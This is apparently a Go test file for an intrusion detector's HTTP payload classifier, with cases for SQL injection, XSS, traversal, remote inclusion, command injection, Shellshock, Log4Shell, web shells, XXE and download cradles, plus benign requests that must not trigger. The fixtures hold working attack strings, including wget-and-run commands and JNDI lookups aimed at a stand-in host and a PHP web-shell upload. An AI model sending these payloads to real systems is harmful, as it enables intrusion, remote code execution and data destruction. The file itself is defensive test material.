package payload

import (
	"strings"
	"testing"

	"firetower/internal/packet"
)

// get makes a browser's request.
func get(target string) string {
	return "GET " + target + " HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept-Language: en\r\n\r\n"
}

func post(target, kind, body string) string {
	return "POST " + target + " HTTP/1.1\r\nHost: www.example.org\r\nContent-Type: " + kind + "\r\n\r\n" + body
}

const form = "application/x-www-form-urlencoded"

// TestObeyed: replies that are nothing but what a command says, and pages about it.
func TestObeyed(t *testing.T) {
	for body, want := range map[string]bool{
		"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:":               true,
		"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n":      true,
		"->|iis apppool\\defaultapppool\r\n|<-":                        true,
		"<p>The file begins with root:x:0:0:root:/root:/bin/bash.</p>": false,
		"uid=7 is not known": false,
		"->| next page":      false,
		"<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)</pre>": false,
	} {
		if obeyed([]byte(body)) != want {
			t.Errorf("%q: %v", body, !want)
		}
	}
}

func TestInjections(t *testing.T) {
	tests := []struct {
		name    string
		kind    int
		request string
	}{
		{"union", SQLInjection, get("/cat.php?id=1%20union%20select%201,2,3")},
		{"union behind comments", SQLInjection, get("/cat.php?id=1/**/UnIoN/**/aLL/**/SeLeCt/**/1")},
		{"union in a versioned comment", SQLInjection, get("/cat.php?id=1+/*!50000union*/+/*!50000select*/+1")},
		{"tautology", SQLInjection, get("/item?id=5'+or+1=1--+")},
		{"quoted tautology", SQLInjection, get("/item?id=x%27%20OR%20%27a%27%3D%27a")},
		{"tautology in a form", SQLInjection, post("/login", form, "user=admin%27+or+%271%27%3D%271&x=1")},
		{"blind, true half", SQLInjection, get("/item?id=5%29%20AND%204522%3D4522%20AND%20%287%3D7")},
		{"blind, false half", SQLInjection, get("/item?id=5%20AND%204522%3D8913")},
		{"time", SQLInjection, get("/item?id=5;WAITFOR+DELAY+'0:0:5'--")},
		{"sleep", SQLInjection, get("/item?id=5'+and+sleep(5)--+")},
		{"error based", SQLInjection, get("/item?id=5+and+extractvalue(1,concat(0x7e,version()))")},
		{"columns by order", SQLInjection, get("/item?id=5'+order+by+7--+")},
		{"columns by order, no quote", SQLInjection, get("/item?id=1%20order%20by%203")},
		{"sleep, no quote", SQLInjection, get("/item?id=1%20AND%20SLEEP(5)")},
		{"stacked, mass", SQLInjection, get("/a.asp?id=1;DECLARE%20@S%20VARCHAR(4000);SET%20@S=CAST(0x4445434C")},
		{"double encoding", SQLInjection, get("/item?id=5%2527%2520union%2520select%25201")},
		{"in a cookie", SQLInjection, "GET / HTTP/1.1\r\nHost: a\r\nCookie: id=1' union select 1--\r\n\r\n"},
		{"script", Scripting, get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E")},
		{"image error", Scripting, get("/s?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")},
		{"passwd", Traversal, get("/view?f=../../../../etc/passwd")},
		{"passwd in the path, overlong", Traversal, get("/cgi-bin/..%c0%af..%c0%af..%c0%afwinnt/system32/cmd.exe?/c+dir")},
		{"win.ini, encoded", Traversal, get("/f?p=%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows/win.ini")},
		{"remote file", Inclusion, get("/index.php?page=http://192.0.2.7/c99.txt?")},
		{"remote file from a bare address", Inclusion, get("/fi/?page=http://192.0.2.7:8000/shell.php")},
		{"escaped dots", Traversal, get("/cgi-bin/.%2e/.%2e/.%2e/bin/sh")},
		{"wrapper", Inclusion, get("/index.php?page=php://filter/convert.base64-encode/resource=index")},
		{"separator", Command, post("/ping", form, "ip=127.0.0.1%3B+cat+%2Fetc%2Fhosts&Submit=Submit")},
		{"bar", Command, post("/ping", form, "ip=127.0.0.1|ls -la /")},
		{"substitution", Command, get("/x?a=$(wget+http://192.0.2.7/x.sh)")},
		{"router", Command, get("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/arm;sh+arm")},
		{"shellshock", Shellshock, "GET /cgi-bin/a HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :;}; /bin/bash -c id\r\n\r\n"},
		{"log4shell", Lookup, "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://192.0.2.7/a}\r\n\r\n"},
		{"log4shell, hidden", Lookup, get("/?x=${${lower:j}ndi:${lower:l}dap://192.0.2.7/a}")},
		{"struts", Expression, "GET /a.action HTTP/1.1\r\nHost: a\r\nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl)}\r\n\r\n"},
		{"spring", Expression, post("/a", form, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")},
		{"web shell", Code, post("/u.php", form, "a=eval(base64_decode($_POST[z0]));")},
		{"upload of a script", Code, post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"s.php\"\r\n\r\n<?php system($_GET['c']); ?>")},
		{"cgi switches", Code, post("/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", form, "<?php")},
		{"external entity", Entity, post("/x", "text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>`)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := talk(packet.TCP, step{'>', tt.request})
			if s.HTTP.Clear[tt.kind] == 0 {
				t.Errorf("no %s; scores %v", KindNames[tt.kind], s.HTTP.Score)
			}
		})
	}
}

// TestInnocent holds requests that look odd and attack nobody.
func TestInnocent(t *testing.T) {
	tests := []struct{ name, request string }{
		{"apostrophe", get("/search?q=rock%20%27n%27%20roll")},
		{"Irish name", post("/order", form, "name=O%27Brien&city=Cork")},
		{"quoted search", get("/search?q=%22select+committee%22+and+union+dues")},
		{"question about SQL", get("/search?q=how+to+select+*+from+a+table")},
		{"pixel with JSON", get("/p.gif?d=%7B%22e%22%3A%22view%22%2C%22t%22%3A1700000000%2C%22u%22%3A%22https%3A%2F%2Fwww.example.org%2Fa%3Fb%3Dc%26d%3De%22%7D")},
		{"redirect", get("/r?u=http%3A%2F%2Fwww.example.com%2Fa%2Fb%3Fx%3D1")},
		{"advertisement", get("/ad?sz=728x90;ord=1234?;tile=1;kw=cat|dog|id|net|set;u=http://a.example/b.html")},
		{"comparison", get("/f?filter=price%3E10&sort=a&b=1&c=1")},
		{"page of a counter", get("/count?page=http://www.example.org/a.php&x=1")},
		{"relative path", get("/a/../b.css")},
		{"JSON API", post("/api", "application/json", `{"query":"{ user(id: \"4\") { name } }","v":"a;b"}`)},
		{"page with a script, saved by its editor", post("/wiki/save", form, "text=%3Cscript+src%3D%22a.js%22%3E%3C%2Fscript%3E")},
		{"OCSP", get("/MFYwVKADAgEAME0wSzBJMAkGBSsOAwIaBQAEFEn%2Fo8Xw%2BZ8yG%3D%3D")},
		{"WebDAV", "PROPFIND /a%20b/ HTTP/1.1\r\nHost: a\r\nDepth: 1\r\n\r\n<?xml version=\"1.0\"?><propfind xmlns=\"DAV:\"><allprop/></propfind>"},
		{"browser's head", "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)\r\nCookie: a={\"b\":\"c\"}; id=5; ls=1\r\nReferer: http://a/?q=it's (not) so\r\n\r\n"},
		{"font with options", get("/css?family=Open+Sans:400,700|Roboto:400;500&display=swap")},
		{"template", get("/t?x=%7B%7Bname%7D%7D")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := talk(packet.TCP, step{'>', tt.request})
			if s.HTTP.Clear != [Kinds]uint8{} {
				t.Errorf("injection: scores %v of %v", s.HTTP.Score, KindNames)
			}
		})
	}
}

func TestHTTPSigns(t *testing.T) {
	exe := "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + strings.Repeat("\x00", 40)
	tests := []struct {
		name  string
		steps []step
		marks Marks
		not   Marks
	}{
		{"browser", []step{{'>', get("/")}}, BrowserSeen, ForgedBrowser | NoAgent | RawHost},
		{"browser's name alone", []step{{'>', "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0)\r\n\r\n"}}, ForgedBrowser, BrowserSeen},
		{"browser of HTTP/1.0", []step{{'>', "GET / HTTP/1.0\r\nHost: a.example\r\nAccept-Language: en\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0)\r\n\r\n"}}, ForgedBrowser, BrowserSeen},
		{"raw host, no agent", []step{{'>', "GET / HTTP/1.1\r\nHost: 198.51.100.7\r\n\r\n"}}, RawHost | NoAgent, OddAgent},
		{"host inside", []step{{'>', "GET / HTTP/1.1\r\nHost: 192.168.1.7\r\nUser-Agent: curl/8\r\n\r\n"}}, ScriptAgent, RawHost},
		{"cut head tells nothing of what it lacks", []step{{'>', "GET / HTTP/1.1\r\nHost: a.exa"}}, 0, ForgedBrowser},
		{"a name with its system and version", []step{{'>', "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: BOINC client (x86_64-pc-linux-gnu 7.16.6)\r\n\r\n"}}, NamedAgent, OddAgent},
		{"a name with anything in brackets", []step{{'>', "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: update (test)\r\n\r\n"}}, OddAgent, NamedAgent},
		{"odd agent", []step{{'>', "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: getURLDown\r\n\r\n"}}, OddAgent, 0},
		{"scanner", []step{{'>', "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.4.4#stable\r\n\r\n"}}, ScannerAgent, 0},
		{"a builder's library, whose name ends as a scanner's", []step{{'>', "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: urlgrabber/3.10 yum/3.4.3\r\n\r\n"}}, NamedAgent, ScannerAgent},
		{"program", []step{{'>', get("/f")}, {'<', "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n" + exe}}, ExeFetched, ExeDisguised},
		{"program in the next packet, called an image", []step{{'>', get("/f")}, {'<', "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n"}, {'<', exe}}, ExeFetched | ExeDisguised, 0},
		{"page", []step{{'>', get("/f")}, {'<', "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>MZ</html>"}}, 0, ExeFetched | ScriptFetched | BareReply},
		{"cradle", []step{{'>', get("/f")}, {'<', "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nIEX(New-Object Net.WebClient).DownloadString('http://a')"}}, ScriptFetched, 0},
		{"reply without headers", []step{{'>', get("/f")}, {'<', "HTTP/1.1 200 OK\r\n"}}, BareReply, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := talk(packet.TCP, tt.steps...)
			if !s.Marks.Has(tt.marks) || s.Marks.Any(tt.not) {
				t.Errorf("marks %b, want %b and none of %b", s.Marks, tt.marks, tt.not)
			}
		})
	}
}

func TestHTTPCounts(t *testing.T) {
	s := talk(packet.TCP,
		step{'>', get("/a")}, step{'<', "HTTP/1.1 404 Not Found\r\nContent-Length: 9\r\n\r\nnot found"},
		step{'>', get("/b")}, step{'<', "HTTP/1.1 404 Not Found\r\nContent-Length: 9\r\n\r\nnot found"},
		step{'>', "GET /b HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YTpi\r\n\r\n"}, step{'<', "HTTP/1.1 401 Unauthorized\r\n\r\n"},
		step{'>', post("/login", form, "user=a&password=b")}, step{'<', "HTTP/1.1 500 Oops\r\n\r\n"},
		step{'>', post("/gate.php", form, "guid=1&ver=2&hwid=3&os=4")})
	w := &s.HTTP
	if s.Requests != 5 || s.Responses != 4 || w.NotFound != 2 || w.Status[5] != 1 || w.Posts != 2 || w.Repeats != 1 {
		t.Errorf("requests %d replies %d, %+v", s.Requests, s.Responses, w)
	}
	if s.LogIns != 2 || s.Failures != 1 || s.Secrets.Count() != 2 || w.CheckIns != 1 || s.Names.Count() != 4 {
		t.Errorf("log-ins %d refused %d of %d, check-ins %d, names %d", s.LogIns, s.Failures, s.Secrets.Count(), w.CheckIns, s.Names.Count())
	}
}
